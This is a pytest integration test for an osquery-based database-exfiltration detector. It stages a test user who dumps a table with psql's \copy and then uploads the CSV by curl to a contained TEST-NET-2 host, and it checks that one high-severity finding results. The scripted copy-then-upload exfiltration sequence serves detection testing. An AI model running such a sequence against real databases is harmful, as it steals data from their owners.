"""End to end: real clients -> extension and pack SQL -> osquery result lines -> correlator -> finding.

A non-admin test user logs in on a pty, opens psql against a real PostgreSQL,
copies a table to a CSV under a dump root, and uploads it with curl to a test
host in a network namespace this test creates (198.51.100.2, TEST-NET-2, on a
veth pair: no traffic leaves the machine). The extension (through the osquery
core stand-in) sees the live psql session and the dump file; the audit event
tables that osqueryd would fill are filled from what the kernel shows of the
same real processes, sockets and files; the rendered pack's own SQL selects
from them in SQLite over osquery's schema; the rows are written as osquery's
filesystem logger writes them, and `osq-dbwatch correlate` must raise one high
finding for that user with all three stages and no password in it.
"""

from __future__ import annotations

import grp
import json
import os
import pwd
import subprocess
import sys
import time
from typing import Any, Iterator

import psutil
import pytest

from dbservers import DB_NAME, PG_PASSWORDS, TABLE, PgServer, wait_until
from osquery_sqlite import OsqueryDB
from osq_dbwatch.config import parse_config
from osq_dbwatch.pack import render

pytestmark = pytest.mark.integration

HOST = "e2e-db-1"
NETNS = "dbw-e2e"
VETH_HOST, VETH_PEER = "dbwe2e0", "dbwe2e1"
HOST_ADDR, PEER_ADDR, PEER_PORT = "198.51.100.1", "198.51.100.2", 8080
CONFIG_TEXT = """
admins:
  groups: [dba]
service_accounts: [backup]
internal_networks: [10.0.0.0/8]
"""

# A peer that reads the upload, holds the connection a few seconds (so the
# test can see it established), answers 200 and exits.
PEER_SERVER = f"""
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("{PEER_ADDR}", {PEER_PORT})); s.listen(1); s.settimeout(60)
c, _ = s.accept(); c.settimeout(5)
try:
    while c.recv(65536): 
        pass
except OSError:
    pass
time.sleep(3)
c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n"); c.close()
"""


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=10)


@pytest.fixture
def upload_peer() -> Iterator[subprocess.Popen[bytes]]:
    """A test host at 198.51.100.2 in a network namespace of our own, with an upload sink."""
    subprocess.run(["ip", "netns", "del", NETNS], capture_output=True, timeout=10)
    subprocess.run(["ip", "link", "del", VETH_HOST], capture_output=True, timeout=10)
    _ip("netns", "add", NETNS)
    server = None
    try:
        _ip("link", "add", VETH_HOST, "type", "veth", "peer", "name", VETH_PEER)
        _ip("link", "set", VETH_PEER, "netns", NETNS)
        _ip("addr", "add", f"{HOST_ADDR}/30", "dev", VETH_HOST)
        _ip("link", "set", VETH_HOST, "up")
        _ip("netns", "exec", NETNS, "ip", "addr", "add", f"{PEER_ADDR}/30", "dev", VETH_PEER)
        _ip("netns", "exec", NETNS, "ip", "link", "set", VETH_PEER, "up")
        server = subprocess.Popen(["ip", "netns", "exec", NETNS, sys.executable, "-c", PEER_SERVER])
        time.sleep(0.5)
        yield server
    finally:
        if server is not None:
            server.kill()
            server.wait(5)
        subprocess.run(["ip", "link", "del", VETH_HOST], capture_output=True, timeout=10)
        subprocess.run(["ip", "netns", "del", NETNS], capture_output=True, timeout=10)


def _loginuid(pid: int) -> int:
    with open(f"/proc/{pid}/loginuid", encoding="ascii") as handle:
        return int(handle.read().strip())


def _exec_event(proc: psutil.Process) -> dict[str, Any]:
    """The process_events row osquery's audit subscriber would log for this exec."""
    uids = proc.uids()
    return {
        "time": int(proc.create_time()),
        "pid": proc.pid,
        "parent": proc.ppid(),
        "path": os.readlink(f"/proc/{proc.pid}/exe"),
        "cmdline": " ".join(proc.cmdline()),  # argv joined by spaces, no quoting
        "cwd": proc.cwd(),
        "uid": uids.real,
        "euid": uids.effective,
        "auid": _loginuid(proc.pid),
    }


def _host_accounts(db: OsqueryDB) -> None:
    db.insert("users", [{"uid": p.pw_uid, "gid": p.pw_gid, "username": p.pw_name, "directory": p.pw_dir} for p in pwd.getpwall()])
    db.insert("groups", [{"gid": g.gr_gid, "groupname": g.gr_name} for g in grp.getgrall()])
    members = {(p.pw_uid, p.pw_gid) for p in pwd.getpwall()}
    by_name = {p.pw_name: p.pw_uid for p in pwd.getpwall()}
    for group in grp.getgrall():
        members.update((by_name[m], group.gr_gid) for m in group.gr_mem if m in by_name)
    db.insert("user_groups", [{"uid": uid, "gid": gid} for uid, gid in sorted(members)])


def _result_line(query: str, row: dict[str, Any], unix_time: int, counter: int) -> str:
    """One event-format line as osquery's filesystem logger writes it (strings, NULL as "")."""
    return json.dumps(
        {
            "name": f"pack_dbwatch_{query}",
            "hostIdentifier": HOST,
            "calendarTime": time.strftime("%a %b %d %H:%M:%S %Y UTC", time.gmtime(unix_time)),
            "unixTime": unix_time,
            "epoch": 0,
            "counter": counter,
            "numerics": False,
            "decorations": {"host_uuid": "E2E00000-0000-0000-0000-000000000001", "hostname": HOST},
            "columns": {k: "" if v is None else str(v) for k, v in row.items()},
            "action": "added",
        }
    )


def test_psql_copy_then_curl_upload_is_one_high_finding(
    pty_shell, pg_server: PgServer, osquery_core, upload_peer, dump_dir, tmp_path
) -> None:
    user = "dbw_mallory"
    secret = PG_PASSWORDS[user]
    config = parse_config(CONFIG_TEXT)
    config_file = tmp_path / "config.yml"
    config_file.write_text(CONFIG_TEXT)
    export = os.path.join(dump_dir, "customers-export.csv")

    # 1. Access: an interactive psql, seen live by the extension.
    shell = pty_shell(user, env={"PGPASSWORD": secret})
    shell.run(f"psql -h 127.0.0.1 -p {pg_server.port} -U {user} -d {DB_NAME}")
    shell.expect(rf"{DB_NAME}=>")
    psql = shell.wait_for_process("psql")
    psql_exec = _exec_event(psql)
    sessions = [r for r in osquery_core.generate("db_cli_sessions", {"pid": [(2, str(psql.pid))]}) if r["pid"] == str(psql.pid)]
    assert len(sessions) == 1, sessions

    # 2. Dump: \copy to a CSV under a dump root, written by psql as the user.
    shell.run(f"\\copy {TABLE} to '{export}' csv header")
    shell.expect(r"COPY \d+")
    shell.run("\\q")
    shell.wait_gone(psql)
    shell.expect_prompt()
    stat = os.stat(export)
    assert stat.st_uid == pwd.getpwnam(user).pw_uid
    files = [r for r in osquery_core.generate("dump_like_files", {"path": [(2, export)]}) if r["path"] == export]
    assert len(files) == 1 and files[0]["kind_by_content"], files

    # 3. Egress: curl uploads the file to the test host; watch its connection.
    # A pause first: process start times derived from /proc can read up to a
    # second early, and the three steps must keep their real order in the log.
    time.sleep(2)
    shell.run(f"curl -s -m 20 -T {export} http://{PEER_ADDR}:{PEER_PORT}/upload")
    curl = shell.wait_for_process("curl")
    curl_exec = _exec_event(curl)
    curl_exec["time"] = max(curl_exec["time"], int(stat.st_mtime) + 1)
    peer: list[Any] = []

    def connected() -> bool:
        for conn in curl.net_connections("tcp"):
            if conn.raddr and conn.raddr.ip == PEER_ADDR:
                peer.append(conn)
                return True
        return False

    wait_until(connected, 15, "curl's connection to the test host")
    connect_time = int(time.time())
    shell.wait_gone(curl)

    # 4. What osqueryd's event tables would hold, from the same kernel facts.
    db = OsqueryDB()
    _host_accounts(db)
    db.insert("processes", [{"pid": shell.pid, "path": os.readlink(f"/proc/{shell.pid}/exe"),
                             "cmdline": "-bash", "start_time": int(psutil.Process(shell.pid).create_time())}])
    db.insert("process_events", [psql_exec, curl_exec])
    db.insert("file_events", [{"time": int(stat.st_mtime), "target_path": export, "action": "CREATED",
                               "inode": stat.st_ino, "uid": stat.st_uid, "size": stat.st_size, "sha256": ""}])
    db.insert("socket_events", [{"time": connect_time, "pid": curl.pid, "path": curl_exec["path"],
                                 "auid": curl_exec["auid"], "action": "connect", "family": 2,
                                 "remote_address": peer[0].raddr.ip, "remote_port": peer[0].raddr.port,
                                 "success": 1}])
    db.insert("db_cli_sessions", sessions)
    db.insert("dump_like_files", files)

    # 5. The rendered pack's SQL selects the rows; write them as osquery logs them.
    lines: list[str] = []
    counter = 0
    for pack_file in render.PACK_FILES:
        if pack_file.filename == "dbwatch-bpf.conf":
            continue  # audit is the default; the BPF pack does not run here
        for name, query in render.build_pack(pack_file, config)["queries"].items():
            for row in db.query(query["query"]):
                counter += 1
                lines.append(_result_line(name, row, int(row.get("time") or time.time()), counter))
    names = {json.loads(line)["name"] for line in lines}
    assert {"pack_dbwatch_db_cli_exec", "pack_dbwatch_transfer_exec", "pack_dbwatch_dump_file_events",
            "pack_dbwatch_db_egress", "pack_dbwatch_db_cli_sessions", "pack_dbwatch_dump_like_files"} <= names, names
    log = tmp_path / "osqueryd.results.log"
    log.write_text("\n".join(sorted(lines, key=lambda l: json.loads(l)["unixTime"])) + "\n")

    # 6. Correlate.
    result = subprocess.run(
        [sys.executable, "-m", "osq_dbwatch", "correlate", "--config", str(config_file),
         "--state", str(tmp_path / "state.sqlite"), str(log)],
        capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stderr
    findings = [json.loads(line) for line in result.stdout.splitlines() if line.strip()]
    mine = [f for f in findings if f["actor"]["user"]["name"] == user and f["device"]["hostname"] == HOST]
    assert mine, f"no finding for {user}: {findings}\n{result.stderr}"
    newest = max(mine, key=lambda f: (f["severity_id"], f["time"]))
    assert newest["severity_id"] >= 4, newest
    assert newest["unmapped"]["stages"] == ["access", "dump", "egress"], newest["unmapped"]
    assert len({f["finding_info"]["uid"] for f in mine}) == 1, "one chain, one finding uid"
    assert newest["finding_info"]["analytic"]["uid"] == "AN0676"
    evidence = json.dumps(newest["evidences"])
    assert export in evidence and PEER_ADDR in evidence
    assert secret not in result.stdout and secret not in log.read_text()
